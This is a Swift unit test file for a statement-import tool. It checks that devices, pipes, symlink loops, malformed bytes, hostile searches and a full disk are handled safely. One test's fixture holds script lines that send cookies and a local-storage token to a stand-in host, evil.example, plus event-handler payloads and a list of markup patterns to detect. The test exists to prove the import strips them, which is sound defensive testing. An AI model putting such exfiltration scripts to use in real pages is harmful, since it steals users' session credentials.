import Foundation
import GRDB
import XCTest

@testable import StatementModel

/// What a hostile probe of the import found (issue 17): devices, pipes, links, names and bytes built to
/// hang, exhaust or mislead the import each get one clear message naming the file, and the rest goes on.
final class HostileInputTests: XCTestCase {
    func testADeviceIsRefusedNotReadWithoutEnd() throws {
        let library = try Fixture.library()
        // Before the fix this read /dev/zero until memory ran out; the deadline turns a hang into a failure.
        let report = try XCTUnwrap(
            finishing(within: 60) { library.importFiles([URL(fileURLWithPath: "/dev/zero")]) },
            "the import of /dev/zero did not finish")
        XCTAssertEqual(
            report.failed,
            [.init(path: "/dev/zero", message: "not a regular file: a character device; Rostrum reads only files")])
        XCTAssertEqual(report.imported, [])
        XCTAssertThrowsError(try FileBytes.read(URL(fileURLWithPath: "/dev/zero"), limit: 1_048_576)) {
            XCTAssertEqual($0 as? TextProblem, .notRegularFile(kind: "a character device"))
        }
    }

    /// 32 texts of 15 MB read side by side peaked at 2.7 GB: files are read together only up to a byte budget,
    /// so a large text is read alone, and small files still go 64 at a time.
    /// 100,000 nested `div`s are past what libxml2 builds: the text at the bottom was "empty" before; it is
    /// read with the markup stripped, its scripts left out, and a note says so. A page with nothing to read
    /// there is still refused as empty.
    func testATextUnderTensOfThousandsOfNestedElementsIsStillRead() throws {
        let dir = Fixture.tempDir()
        let depth = 100_000
        let deep = dir.appendingPathComponent("deep.html")
        try ("<html><body>" + String(repeating: "<div>", count: depth) + "<script>steal()</script>"
            + "The delegation &amp; its partners call for a ceasefire." + String(repeating: "</div>", count: depth)
            + "</body></html>").write(to: deep, atomically: true, encoding: .utf8)
        let reading = try Fixture.reader.read(fileAt: deep)
        let s = try XCTUnwrap(reading.statements.first)
        XCTAssertEqual(s.body, "The delegation & its partners call for a ceasefire.")
        XCTAssertTrue(s.notes.contains { $0.contains("nests its markup over 250 levels deep") }, "\(s.notes)")
        let empty = dir.appendingPathComponent("empty.html")
        try ("<html><body>" + String(repeating: "<div>", count: depth) + "<script>x()</script>"
            + String(repeating: "</div>", count: depth) + "</body></html>").write(
                to: empty, atomically: true, encoding: .utf8)
        XCTAssertThrowsError(try Fixture.reader.read(fileAt: empty)) {
            XCTAssertEqual($0 as? TextProblem, .empty)
        }
    }

    func testLargeFilesAreReadOneAtATime() {
        let mb = 1 << 20
        let sizes = [15 * mb, 15 * mb] + Array(repeating: 1_000, count: 100) + [3 * mb, 3 * mb, 3 * mb, 15 * mb]
        let chunks = StatementLibrary.chunks(sizes: sizes)
        XCTAssertEqual(chunks, [0..<1, 1..<2, 2..<66, 66..<104, 104..<105, 105..<106])
        XCTAssertEqual(chunks.flatMap { Array($0) }, Array(sizes.indices), "every file once, in order")
        for chunk in chunks where chunk.count > 1 {
            XCTAssertLessThanOrEqual(chunk.map { sizes[$0] }.reduce(0, +), StatementLibrary.chunkBytes)
        }
        XCTAssertEqual(StatementLibrary.chunks(sizes: []), [])
    }

    func testATableThatGivesNoStatementIsNamedWithWhy() throws {
        let library = try Fixture.library()
        let dir = Fixture.tempDir()
        let tables = [
            ("header-only.csv", "title,text,date\n", "it has a header and no rows"),
            ("short-rows.csv", "title,date,text\n\"row 1\",2020-01-01\n", "none of its 1 rows has text"),
        ]
        for (name, body, _) in tables {
            try body.write(to: dir.appendingPathComponent(name), atomically: true, encoding: .utf8)
        }
        let report = library.importFiles([dir])
        XCTAssertEqual(report.imported, [])
        for (name, _, reason) in tables {
            let failed = report.failed.filter { $0.path.hasSuffix(name) }
            XCTAssertEqual(failed.count, 1, name)
            XCTAssertTrue(failed.first?.message.contains(reason) ?? false, "\(name): \(failed)")
        }
    }

    func testACSVCutInsideAQuotedFieldSaysSo() throws {
        let library = try Fixture.library()
        let file = Fixture.tempDir().appendingPathComponent("cut.csv")
        try "title,text,date\nA,\"The Council met on the situation in the Sahel and".write(
            to: file, atomically: true, encoding: .utf8)
        let report = library.importFiles([file])
        XCTAssertEqual(report.imported.count, 1, "what is there is kept")
        XCTAssertTrue(
            report.notes.contains { $0.path == file.path && $0.message.contains("ends inside a quoted field") },
            "\(report.notes)")
    }

    func testAFileWhoseSizeReadsAsZeroIsReadOnlyUpToTheLimit() throws {
        // /proc files are regular files whose size reads as 0: the limit, not the size, ends the reading.
        let proc = URL(fileURLWithPath: "/proc/self/status")
        XCTAssertThrowsError(try FileBytes.read(proc, limit: 64)) { error in
            guard case .tooLarge(let bytes, 64)? = error as? TextProblem else { return XCTFail("\(error)") }
            XCTAssertGreaterThan(bytes, 64)
        }
        XCTAssertTrue(
            try Fixture.reader.decode(fileAt: proc).text.contains("Name:"), "below the limit it is read whole")
    }

    func testANamedPipeIsRefusedWithoutOpeningIt() throws {
        let dir = Fixture.tempDir()
        let fifo = dir.appendingPathComponent("f.txt")
        XCTAssertEqual(mkfifo(fifo.path, 0o600), 0)
        // Opening a FIFO to read waits for a writer: should the import have opened it, this releases it.
        defer {
            let fd = open(fifo.path, O_WRONLY | O_NONBLOCK)
            if fd >= 0 { close(fd) }
        }
        let library = try Fixture.library(in: dir)
        let report = try XCTUnwrap(
            finishing(within: 30) { library.importFiles([fifo]) }, "the import waited on the pipe")
        XCTAssertEqual(
            report.failed,
            [.init(path: fifo.path, message: "not a regular file: a named pipe; Rostrum reads only files")])
        XCTAssertThrowsError(try FileBytes.read(fifo)) {
            XCTAssertEqual($0 as? TextProblem, .notRegularFile(kind: "a named pipe"))
        }
    }

    /// Several processes' first open of one new library at once: each has its own connections, as
    /// threads with a store each have here. Before the fix some failed with "database is locked" (turning
    /// on WAL) or "table already exists" (two migrating at once).
    func testManyFirstOpensOfOneNewLibraryAllSucceed() throws {
        for round in 0..<4 {
            let path = Fixture.tempDir().appendingPathComponent("new/library.sqlite").path
            let openers = 6
            let start = DispatchSemaphore(value: 0)
            let group = DispatchGroup()
            let outcomes = (0..<openers).map { _ in Box<Result<Bool, Error>>() }
            for i in 0..<openers {
                group.enter()
                Thread.detachNewThread {
                    start.wait()
                    outcomes[i].value = Result {
                        let store = try SQLiteStatementStore(path: path)
                        _ = try store.insert(
                            [Fixture.read("Statement \(i) of round \(round) on peacekeeping.")], sources: [])
                        return store.createdLibrary
                    }
                    group.leave()
                }
            }
            for _ in 0..<openers { start.signal() }
            XCTAssertEqual(group.wait(timeout: .now() + 60), .success, "the openers did not finish")
            let created = try outcomes.map { try XCTUnwrap($0.value).get() }
            XCTAssertEqual(created.filter { $0 }.count, 1, "exactly one opener made the library")
            XCTAssertEqual(
                try SQLiteStatementStore(path: path).totalCount(), openers, "every opener's statement is stored")
        }
    }

    /// `list` run while the first import into a new library has not yet stored anything must not fill
    /// that library with the two default statements.
    func testOnlyTheOpenThatCreatedALibrarySeedsIt() throws {
        let path = Fixture.tempDir().appendingPathComponent("library.sqlite").path
        let importer = StatementLibrary(store: try SQLiteStatementStore(path: path), reader: Fixture.reader)
        let lister = StatementLibrary(store: try SQLiteStatementStore(path: path), reader: Fixture.reader)
        XCTAssertTrue(importer.store.createdLibrary)
        XCTAssertFalse(lister.store.createdLibrary)
        XCTAssertNil(try lister.seedIfEmpty(from: Fixture.data))
        XCTAssertEqual(try importer.store.totalCount(), 0, "the import's library holds only what it imports")

        let fresh = StatementLibrary(
            store: try SQLiteStatementStore(path: Fixture.tempDir().appendingPathComponent("l.sqlite").path),
            reader: Fixture.reader)
        XCTAssertEqual(
            try fresh.seedIfEmpty(from: Fixture.data)?.imported.count, 2, "a library made by this open is seeded")
    }

    /// A library that cannot be opened is described in a short phrase (the tool prints it after the path),
    /// never with the SQL that was running, and the file is left as it was.
    func testALibraryThatCannotBeOpenedSaysWhyInAPhrase() throws {
        let dir = Fixture.tempDir()
        let notes = dir.appendingPathComponent("notes.sqlite")
        try "Just some notes, not a database.".write(to: notes, atomically: true, encoding: .utf8)
        XCTAssertThrowsError(try SQLiteStatementStore(path: notes.path)) {
            XCTAssertEqual(StorageProblem.describe($0), "not a Rostrum library (file is not a database)")
        }
        XCTAssertEqual(
            try String(contentsOf: notes, encoding: .utf8), "Just some notes, not a database.", "the file is untouched")
        XCTAssertThrowsError(try SQLiteStatementStore(path: dir.path)) {
            XCTAssertEqual(
                StorageProblem.describe($0),
                "cannot be opened (unable to open database file): a folder, or a place that cannot be written?")
        }
        XCTAssertThrowsError(try SQLiteStatementStore(path: "/proc/rostrum-nowhere/library.sqlite")) {
            XCTAssertEqual(
                StorageProblem.describe($0),
                "its folder /proc/rostrum-nowhere cannot be made: No such file or directory")
        }
    }

    /// Links, pipes and folders that cannot be read were passed over without a word ("imported 0,
    /// failed 0"): each is now named once with its reason, a link to a file is read, a loop ends.
    func testEveryLinkPipeAndUnreadableFolderIsNamed() throws {
        let dir = Fixture.tempDir()
        let input = dir.appendingPathComponent("in")
        let fm = FileManager.default
        try fm.createDirectory(at: input.appendingPathComponent("sub"), withIntermediateDirectories: true)
        func put(_ name: String, _ text: String) throws {
            try text.write(to: input.appendingPathComponent(name), atomically: true, encoding: .utf8)
        }
        func link(_ name: String, _ target: String) throws {
            try fm.createSymbolicLink(atPath: input.appendingPathComponent(name).path, withDestinationPath: target)
        }
        try put("a.txt", "The Council must renew the sanctions regime this year.")
        try put("copy.txt", "The Council must renew the sanctions regime this year.")
        try link("link.txt", "a.txt")
        try link("loop1", "loop2")
        try link("loop2", "loop1")
        try link("dangling.txt", "nowhere.txt")
        try link("sub/up", "..")
        XCTAssertEqual(mkfifo(input.appendingPathComponent("pipe.txt").path, 0o600), 0)
        defer {
            let fd = open(input.appendingPathComponent("pipe.txt").path, O_WRONLY | O_NONBLOCK)
            if fd >= 0 { close(fd) }
        }

        let library = try Fixture.library(in: dir)
        let report = try XCTUnwrap(finishing(within: 60) { library.importFiles([input]) }, "the import did not finish")
        func reason(_ name: String) -> String? {
            report.failed.first { $0.path == input.appendingPathComponent(name).path }?.message
        }
        XCTAssertEqual(reason("loop1"), "a symbolic link loop: following it comes back round without reaching a file")
        XCTAssertEqual(reason("loop2"), reason("loop1"))
        XCTAssertEqual(reason("dangling.txt"), "a symbolic link to nothing: nowhere.txt does not exist")
        XCTAssertEqual(reason("pipe.txt"), "not a regular file: a named pipe; Rostrum reads only files")
        XCTAssertTrue(
            reason("sub/up")?.hasPrefix("a symbolic link to a folder, not followed") ?? false, "\(report.failed)")
        XCTAssertEqual(report.failed.count, 5, "each named once: \(report.failed)")
        // The link to a file is read: the same text as a.txt, so it is said to be in the library already.
        XCTAssertEqual(report.importedFiles, [.init(path: input.appendingPathComponent("a.txt").path, statements: 1)])
        XCTAssertEqual(
            Set(report.alreadyPresent.map { ($0.path as NSString).lastPathComponent }), ["copy.txt", "link.txt"])

        // A folder inside that cannot be opened (as a user without the right would meet it; root may open anything).
        var skipped: [ImportReport.Entry] = []
        var failed: [ImportReport.Entry] = []
        let locked = input.appendingPathComponent("sub").path
        let files = FileCollector.collect([input], skipped: &skipped, failed: &failed) { path in
            if path == locked {
                errno = EACCES
                return nil
            }
            return opendir(path)
        }
        XCTAssertEqual(failed.first { $0.path == locked }?.message, "the folder cannot be read: Permission denied")
        XCTAssertEqual(files.map(\.lastPathComponent), ["a.txt", "copy.txt", "link.txt"])
    }

    /// `--verbose` lists every file that added statements, with how many: a table gives several.
    func testTheReportCountsEachFilesStatements() throws {
        let dir = Fixture.tempDir()
        let input = dir.appendingPathComponent("in")
        try FileManager.default.createDirectory(at: input, withIntermediateDirectories: true)
        try
            ("text,year,country\nWe call for a ceasefire now.,2019,France\nSanctions must be "
                + "lifted.,2020,Cuba\nThe mandate is renewed.,2021,Ghana\n")
            .write(to: input.appendingPathComponent("speeches.csv"), atomically: true, encoding: .utf8)
        try "A statement on peacekeeping operations.".write(
            to: input.appendingPathComponent("one.txt"), atomically: true, encoding: .utf8)
        let library = try Fixture.library(in: dir)
        let report = library.importFiles([input])
        XCTAssertEqual(
            report.importedFiles,
            [
                .init(path: input.appendingPathComponent("one.txt").path, statements: 1),
                .init(path: input.appendingPathComponent("speeches.csv").path, statements: 3),
            ])
        let again = library.importFiles([input])
        XCTAssertEqual(
            again.unchangedFiles, report.importedFiles.map(\.path), "a re-import names what it did not read again")
    }

    /// What the tool prints from a file: escape sequences, the bell, backspaces, C1 controls and
    /// direction overrides become visible, and a name's newline cannot start a line of its own.
    func testControlCharactersFromFilesArePrintedVisibly() {
        let title = "Ambassador \u{1B}[31mRed\u{1B}[0m speaks\u{07} to the Council\u{08}\u{08}"
        XCTAssertEqual(
            VisibleText.escaped(title), "Ambassador \\u{1B}[31mRed\\u{1B}[0m speaks\\u{7} to the Council\\u{8}\\u{8}")
        XCTAssertEqual(VisibleText.escaped("x\nimported 99, failed 0\n.txt"), "x\\nimported 99, failed 0\\n.txt")
        XCTAssertEqual(
            VisibleText.escaped("a\tb\u{9B}2J\u{7F}\u{202E}txt.exe"), "a\\tb\\u{9B}2J\\u{7F}\\u{202E}txt.exe")
        XCTAssertEqual(
            VisibleText.escaped("Para one.\n\n\tPara two \u{1B}]0;title\u{07}", multiline: true),
            "Para one.\n\n\tPara two \\u{1B}]0;title\\u{7}", "a body keeps its lines and tabs")
        let ordinary = "Déclaration — 安全理事会 — مجلس الأمن «ok»"
        XCTAssertEqual(VisibleText.escaped(ordinary), ordinary, "letters of every script pass unchanged")
        for printed in [VisibleText.escaped(title), VisibleText.escaped(title, multiline: true)] {
            XCTAssertFalse(
                printed.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) }, printed)
        }
    }

    /// A page's source saved as .txt: no script or style, no event handler or javascript: link reaches
    /// the stored title, body or raw text; the statement's words stay, and a note says what went.
    func testScriptsAndEventHandlersDoNotSurviveAPlainTextImport() throws {
        let dir = Fixture.tempDir()
        let file = dir.appendingPathComponent("page.txt")
        try """
        <script>document.location='http://evil.example/?c='+document.cookie</script>
        <h1 onmouseover="alert(1)">Statement by the Ambassador on the humanitarian situation</h1>
        <style>h1 { color: red }</style>
        <img src=x onerror="alert(2)">
        Mr. President,

        We thank the Secretary-General for his briefing on the <a href="javascript:alert(3)">humanitarian situation</a>.
        <p>We call on all parties to respect international humanitarian law.</p>
        <body onload="steal()">The Council must act now.</body>
        <SCRIPT type="text/javascript">
        fetch('http://evil.example/' + localStorage.token)
        </SCRIPT>
        """.write(to: file, atomically: true, encoding: .utf8)
        let library = try Fixture.library(in: dir)
        let report = library.importFiles([file])
        let stored = try XCTUnwrap(try library.store.statement(id: XCTUnwrap(report.imported.first)))
        for text in [stored.title?.value ?? "", stored.displayTitle, stored.body, stored.raw] {
            for hostile in [
                "<script", "</script", "<SCRIPT", "<style", "onmouseover", "onerror", "onload", "javascript:",
                "evil.example", "alert(",
            ] {
                XCTAssertFalse(text.contains(hostile), "“\(hostile)” survived in: \(text)")
            }
        }
        XCTAssertTrue(
            stored.displayTitle.hasPrefix("Statement by the Ambassador on the humanitarian situation"),
            stored.displayTitle)
        for words in [
            "We thank the Secretary-General", "respect international humanitarian law", "The Council must act now.",
            "briefing on the humanitarian situation</a>.",
        ] {
            XCTAssertTrue(stored.body.contains(words), "ordinary text is kept: \(words)")
        }
        XCTAssertEqual(
            report.notes.filter { $0.message.hasPrefix("markup that runs code was removed") }.map(\.message),
            [
                "markup that runs code was removed: 2 script blocks, 1 style block, 4 tags with "
                    + "event handlers or javascript: links"
            ])
        XCTAssertEqual(
            MarkupScrubber.scrub("Trade < 5% and x > y; <b>bold</b> <a href=\"https://un.org\">UN</a>").removed, [],
            "comparisons and harmless tags are text")
    }

    /// Bytes that were misread: binary without NUL bytes came in as Windows-1252 junk, UTF-16 without a
    /// byte-order mark and zip archives were called "binary" for their zero bytes.
    func testMisreadBytesAreReadRightOrRefusedForWhatTheyAre() throws {
        var rng = SeededRandom(seed: 17)
        // Random bytes with none of NUL or the five bytes Windows-1252 leaves undefined: all "decode".
        let undefined: Set<UInt8> = [0x00, 0x81, 0x8D, 0x8F, 0x90, 0x9D]
        let noise = (0..<4096).map { _ in UInt8(truncatingIfNeeded: rng.next()) }.filter { !undefined.contains($0) }
        XCTAssertThrowsError(try TextDecoder.decode(noise)) { error in
            guard case .unlikelyText(_, let percent)? = error as? TextProblem else { return XCTFail("\(error)") }
            XCTAssertGreaterThan(percent, 40)
        }
        // Random ASCII without NUL is valid UTF-8, but a tenth of it or more is control codes.
        let asciiNoise = (0..<4096).map { _ in UInt8(1 + rng.next() % 127) }
        XCTAssertThrowsError(try TextDecoder.decode(asciiNoise)) { error in
            guard case .controlCharacters(let percent)? = error as? TextProblem else { return XCTFail("\(error)") }
            XCTAssertGreaterThan(percent, 10)
        }
        // A text with a few escape sequences in it is still text (the tool prints them escaped).
        let logged =
            "Ambassador \u{1B}[31mRed\u{1B}[0m speaks\u{07} to the Council\u{08}\u{08}\n\nWe call "
                + "on all parties to respect the ceasefire agreed in Doha."
        XCTAssertEqual(try TextDecoder.decode(Array(logged.utf8)).text, logged)
        // Windows-1252 text is still read.
        let french =
            "La délégation française salue l’adoption de la résolution et réaffirme son soutien à la MINUSMA. "
        let cp1252 = Array(french.unicodeScalars.map { $0 == "’" ? 0x92 : UInt8($0.value) })
        XCTAssertEqual(try TextDecoder.decode(cp1252).text, french)

        let sentence = "Mr. President, we support the peacekeeping mission in Mali.\n"
        for little in [true, false] {
            let bytes = sentence.utf16.flatMap {
                little ? [UInt8($0 & 0xFF), UInt8($0 >> 8)] : [UInt8($0 >> 8), UInt8($0 & 0xFF)]
            }
            let decoded = try TextDecoder.decode(bytes)
            XCTAssertEqual(decoded.text, sentence)
            XCTAssertEqual(
                decoded.notes,
                [
                    "converted from UTF-16\(little ? "LE" : "BE") to UTF-8 (no byte-order mark: its "
                        + "zero bytes tell the order)"
                ])
        }
        XCTAssertThrowsError(try TextDecoder.decode([0x50, 0x4B, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00])) {
            XCTAssertEqual(
                ($0 as? TextProblem)?.description,
                "this is a zip archive (Word, Excel and OpenDocument files are zips too), not text")
        }
        XCTAssertThrowsError(try TextDecoder.decode([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D])) {
            XCTAssertEqual($0 as? TextProblem, .binaryFormat("a PNG image"))
        }
        XCTAssertThrowsError(try TextDecoder.decode([0x89, 0x51, 0x00, 0x47, 0x00, 0x00, 0x01, 0x02])) {
            XCTAssertEqual($0 as? TextProblem, .binary(offset: 2), "zeros anywhere are binary, not UTF-16")
        }
    }

    /// A file whose name is not UTF-8, found in a folder, failed as "The file doesn't exist": it is
    /// named with its bytes, and the others in the folder are read.
    func testAFileNameThatIsNotUTF8IsNamedHonestly() throws {
        let dir = Fixture.tempDir()
        let input = dir.appendingPathComponent("in")
        try FileManager.default.createDirectory(at: input, withIntermediateDirectories: true)
        try "A statement on sanctions by the Council.".write(
            to: input.appendingPathComponent("good.txt"), atomically: true, encoding: .utf8)
        let latin1Name = Array(input.path.utf8) + Array("/caf".utf8) + [0xE9] + Array(".txt".utf8) + [0]
        let fd = latin1Name.withUnsafeBufferPointer {
            open(UnsafeRawPointer($0.baseAddress!).assumingMemoryBound(to: CChar.self), O_WRONLY | O_CREAT, 0o644)
        }
        XCTAssertGreaterThanOrEqual(fd, 0)
        _ = "A statement on peacekeeping.".withCString { write(fd, $0, strlen($0)) }
        close(fd)
        let library = try Fixture.library(in: dir)
        let report = library.importFiles([input])
        XCTAssertEqual(report.failed.map(\.path), [input.path + "/caf\\xE9.txt"])
        XCTAssertTrue(
            report.failed.first?.message.hasPrefix("the file's name is not valid UTF-8") ?? false, "\(report.failed)")
        XCTAssertEqual(report.importedFiles.map(\.path), [input.appendingPathComponent("good.txt").path])
    }

    /// A full disk used to fail every later batch, one line per file, and the import ended "successfully".
    /// Here the library is held to a few pages (SQLite's max_page_count on the writer's connection), so
    /// the real SQLITE_FULL comes through the real import: it stops at once, says why once, keeps what
    /// was stored, and an import after room is made reads only what was left out.
    func testAFullDiskStopsTheImportAndKeepsWhatWasStored() throws {
        let dir = Fixture.tempDir()
        let input = dir.appendingPathComponent("in")
        try FileManager.default.createDirectory(at: input, withIntermediateDirectories: true)
        var rng = SeededRandom(seed: 9)
        let words = [
            "peace", "sanctions", "council", "mandate", "ceasefire", "humanitarian", "resolution", "delegation",
            "security", "regional",
        ]
        let files = 400
        for i in 0..<files {
            let text = (0..<300).map { _ in words[Int(rng.next() % 10)] }.joined(separator: " ")
            try "Statement \(i).\n\n\(text).".write(
                to: input.appendingPathComponent(String(format: "s%03d.txt", i)), atomically: false, encoding: .utf8)
        }
        let store = try SQLiteStatementStore(path: dir.appendingPathComponent("library.sqlite").path)
        let library = StatementLibrary(store: store, reader: Fixture.reader, batchSize: 20)
        let pages = try store.pool.read { try Int.fetchOne($0, sql: "PRAGMA page_count") ?? 0 }
        try store.pool.writeWithoutTransaction { try $0.execute(sql: "PRAGMA max_page_count = \(pages + 150)") }

        let report = library.importFiles([input])
        let stop = try XCTUnwrap(report.stopped, "the import went on past a full disk: \(report.failed.prefix(3))")
        XCTAssertEqual(stop.reason, "the disk is full (database or disk is full)")
        XCTAssertEqual(report.failed, [], "no line per file for the full disk")
        XCTAssertGreaterThan(report.imported.count, 0)
        XCTAssertLessThan(report.imported.count, files)
        XCTAssertEqual(
            try store.totalCount(), report.imported.count, "what the report says was stored is in the library")
        XCTAssertEqual(stop.filesNotImported, files - report.importedFiles.count)

        try store.pool.writeWithoutTransaction { try $0.execute(sql: "PRAGMA max_page_count = 1073741823") }
        let again = library.importFiles([input])
        XCTAssertNil(again.stopped)
        XCTAssertEqual(again.unchanged, report.imported.count, "stored files are not read again")
        XCTAssertEqual(again.imported.count, files - report.imported.count)
        XCTAssertEqual(try store.totalCount(), files)
    }

    /// A read under `abandoning(when:)` stops part way once its asker gives it up (a newer search came):
    /// SQLite consults the check while it runs, the read ends with `QueryAbandoned`, and the connection
    /// answers the next question whole.
    func testAStaleSearchIsStoppedWhileItRuns() throws {
        let library = try Fixture.library()
        let dir = Fixture.tempDir()
        _ = try CorpusGenerator(count: 120, seed: 17, layout: .mixed, reference: Fixture.reference).write(to: dir)
        _ = library.importFiles([dir])
        let store = try XCTUnwrap(library.store as? SQLiteStatementStore)
        store.abandonChecks.interval = 10  // a library of a few hundred statements is read in a few thousand steps
        let filter = StatementFilter(text: "security OR council OR peace OR nations OR united OR the")
        let whole = try store.count(filter)
        XCTAssertGreaterThan(whole, 0)
        let asked = Counter()
        // Fresh at first, stale after the check has been asked a few times: so it was asked mid-read.
        XCTAssertThrowsError(
            try store.abandoning(when: { asked.next() > 3 }) {
                _ = try store.snapshot(
                    StatementFilter(text: "secur* OR counc* OR peac* OR nation* OR unit*"), granularity: .year,
                    sort: .dateDescending)
            }
        ) { XCTAssertTrue($0 is QueryAbandoned, "\($0)") }
        XCTAssertGreaterThan(asked.value, 3, "the check was consulted while the read ran")
        XCTAssertThrowsError(try store.abandoning(when: { true }) { try store.count(filter) }) {
            XCTAssertTrue($0 is QueryAbandoned, "\($0)")
        }
        XCTAssertEqual(try store.abandoning(when: { false }) { try store.count(filter) }, whole)
        XCTAssertEqual(try store.count(filter), whole, "no check stays behind on the connection")
    }

    /// Searches built to be slow or to flood the terminal are refused before FTS5 sees them, with a short
    /// message; FTS5's own "syntax error" becomes a sentence. The bounds live in the model library, so
    /// the window's search box has them too.
    func testHostileSearchesAreBoundedAndSaidPlainly() throws {
        let library = try Fixture.library()
        try library.seedIfEmpty(from: Fixture.data)
        func reason(_ query: String) -> (reason: String, message: String)? {
            do {
                _ = try library.store.count(StatementFilter(text: query))
                return nil
            } catch RostrumError.invalidSearch(_, let reason) {
                return (reason, RostrumError.invalidSearch(query: query, reason: reason).description)
            } catch {
                XCTFail("\(error)")
                return nil
            }
        }
        let hundredPrefixes = Array(repeating: "a*", count: 100).joined(separator: " OR ")
        XCTAssertEqual(
            reason(hundredPrefixes)?.reason, "“a*” is too short a prefix: give at least 3 letters before the *")
        XCTAssertEqual(
            reason("\"security co\"* OR peace")?.reason,
            "“co*” is too short a prefix: give at least 3 letters before the *")
        for size in [3_000, 100_000] {
            let pasted = String(repeating: "peace and security ", count: size / 19 + 1)
            let refused = try XCTUnwrap(reason(pasted), "\(size) bytes")
            XCTAssertTrue(refused.reason.hasPrefix("it is too long ("), refused.reason)
            XCTAssertLessThan(refused.message.count, 200, "the message does not echo the whole query")
        }
        let words = (0..<65).map { "word\($0)" }
        XCTAssertEqual(reason(words.joined(separator: " OR "))?.reason, "it has 65 words; a search may have 64")
        XCTAssertNil(reason(words.dropLast().joined(separator: " OR ")), "64 words may be searched")
        XCTAssertEqual(reason("()")?.reason, "a pair of parentheses has nothing inside")
        // Passes the checks, but FTS5 cannot read it: said in words, without "fts5: syntax error".
        let fts = try XCTUnwrap(reason("(peace) (security)"))
        XCTAssertEqual(fts.reason, "it could not be read near “(”")
        XCTAssertFalse(fts.message.contains("fts5"))
        XCTAssertEqual(
            try library.store.count(StatementFilter(text: "secur* OR cyberspace")), 2, "ordinary searches still run")
    }

    /// Re-importing changed files finds each one's old statements by source path: a library made before
    /// the index gains it when opened (and keeps its statements), and the replacing delete uses it
    /// instead of scanning every statement.
    func testALibraryGainsTheSourcePathIndexAndReplacingUsesIt() throws {
        let dir = Fixture.tempDir()
        let path = dir.appendingPathComponent("old.sqlite").path
        do {
            let queue = try DatabaseQueue(path: path)
            try LibrarySchema.migrator.migrate(queue, upTo: "v7: facet index cache")
        }
        let file = dir.appendingPathComponent("speech.txt")
        try "Mr. President, we support the mission.".write(to: file, atomically: true, encoding: .utf8)
        let library = StatementLibrary(store: try SQLiteStatementStore(path: path), reader: Fixture.reader)
        XCTAssertEqual(library.importFiles([file]).imported.count, 1)
        let store = try XCTUnwrap(library.store as? SQLiteStatementStore)
        let plan = try store.pool.read { db in
            try Row.fetchAll(
                db, sql: "EXPLAIN QUERY PLAN DELETE FROM statement WHERE source_path = ? AND id NOT IN (?)",
                arguments: [file.path, "x"]
            ).map { $0["detail"] as String }
        }
        XCTAssertTrue(plan.contains { $0.contains("statement_source_path") }, "\(plan)")
        XCTAssertFalse(plan.contains("SCAN statement"), "\(plan)")

        try "Mr. President, we support the mission and its mandate.".write(to: file, atomically: true, encoding: .utf8)
        let again = library.importFiles([file])
        XCTAssertEqual(again.updated.map(\.path), [file.path])
        XCTAssertEqual(try store.totalCount(), 1, "the changed file's statement was replaced, not doubled")
    }
}

/// Runs `body` on another thread; nil when it has not returned within `seconds`, so a test of
/// something that used to hang fails instead of stopping the suite. A Dispatch thread, not a `Thread` of its
/// own: an import's `concurrentPerform` from a thread that then ends left a freed block in the continuation cache
/// of a Dispatch worker, freed again when that worker ended (AddressSanitizer: a double free in
/// `_dispatch_cache_cleanup`; unsanitized, now and then "corrupted double-linked list" in a later test).
func finishing<T: Sendable>(within seconds: Double, _ body: @escaping @Sendable () -> T) -> T? {
    let box = Box<T>()
    let done = DispatchSemaphore(value: 0)
    DispatchQueue.global(qos: .userInitiated).async {
        box.value = body()
        done.signal()
    }
    guard done.wait(timeout: .now() + seconds) == .success else { return nil }
    return box.value
}

/// A value handed from one thread to another, behind a lock.
final class Box<T>: @unchecked Sendable {
    private let lock = NSLock()
    private var stored: T?
    var value: T? {
        get {
            lock.lock()
            defer { lock.unlock() }
            return stored
        }
        set {
            lock.lock()
            stored = newValue
            lock.unlock()
        }
    }
}

/// A count that closures on other threads can bump.
private final class Counter: @unchecked Sendable {  // guarded by lock
    private let lock = NSLock()
    private(set) var value = 0
    func next() -> Int {
        lock.lock()
        defer { lock.unlock() }
        value += 1
        return value
    }
}
